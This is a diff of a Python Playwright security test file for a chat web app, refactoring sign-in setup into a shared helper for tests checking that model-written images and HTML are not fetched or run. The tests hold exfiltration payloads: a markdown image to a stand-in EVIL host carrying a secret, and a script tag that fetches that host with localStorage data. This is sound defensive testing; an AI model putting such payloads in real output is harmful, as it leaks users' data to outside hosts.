@@ -1,6 +1,8 @@
 """D01, D04, D05: content that would like to be a script, or to tell another host something, in a real browser."""
 
 import re
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
 
@@ -8,7 +10,7 @@ import pytest
 from playwright.async_api import Browser, expect
 
 from tests.rig.provider import running_provider
-from tests.rig.server import running_server
+from tests.rig.server import Server, running_server
 from tests.security.payloads import ALL, EVIL, EXFILTRATING, HIT, SHORT
 
 from .people import EMAIL, Person, person
@@ -82,6 +84,18 @@ class Watched(Person):
         assert self.dialogs == []
         assert self.elsewhere == []
         assert len(self.page.context.pages) == 1
+
+
+@asynccontextmanager
+async def watched(browser: Browser, folder: Path) -> AsyncIterator[tuple[Watched, Server]]:
+    """Somebody who is signed in to a server of their own with a provider, and is watched."""
+    async with running_provider() as provider, running_server(folder) as server, person(browser) as someone:
+        await server.create_user(EMAIL, admin=True)
+        await server.add_provider("Sim", provider.url)
+        me = Watched(someone.page, someone.complaints)
+        await me.sign_in(server)
+        me.watch(server.url)
+        yield me, server
 
 
 @pytest.mark.parametrize(
@@ -174,12 +188,7 @@ async def _shown(me: Watched) -> None:
 async def test_d05_an_image_from_elsewhere_is_a_link_that_names_its_host(browser: Browser, tmp_path: Path) -> None:
     """Nothing is fetched until the person opens it; what is opened is what the placeholder says."""
     assert len(EXFILTRATING) > 100
-    async with running_provider() as provider, running_server(tmp_path) as server, person(browser) as someone:
-        await server.create_user(EMAIL, admin=True)
-        await server.add_provider("Sim", provider.url)
-        me = Watched(someone.page, someone.complaints)
-        await me.sign_in(server)
-        me.watch(server.url)
+    async with watched(browser, tmp_path) as (me, server):
         conversation = await _ask(me, f"![a chart](https://{EVIL}/chart.png?secret=1)")
         await me.page.goto(f"{server.url}/c/{conversation}")
         placeholder = me.answers.last.get_by_role("link", name="a chart")
@@ -197,12 +206,7 @@ async def test_d05_an_image_from_elsewhere_is_a_link_that_names_its_host(browser
 async def test_d04_a_page_in_an_answer_stays_code(browser: Browser, tmp_path: Path) -> None:
     """There are no previews yet: a page that a model wrote is read, never run, and gets no frame of its own."""
     written = f"<script>top.hit = 1; fetch('https://{EVIL}/' + localStorage.length)</script><h1>A chart</h1>"
-    async with running_provider() as provider, running_server(tmp_path) as server, person(browser) as someone:
-        await server.create_user(EMAIL, admin=True)
-        await server.add_provider("Sim", provider.url)
-        me = Watched(someone.page, someone.complaints)
-        await me.sign_in(server)
-        me.watch(server.url)
+    async with watched(browser, tmp_path) as (me, server):
         conversation = await _ask(me, f"```html\n{written}\n```\n\n{written}")
         await me.page.goto(f"{server.url}/c/{conversation}")
         await expect(me.answers.last.locator("pre")).to_contain_text("A chart")
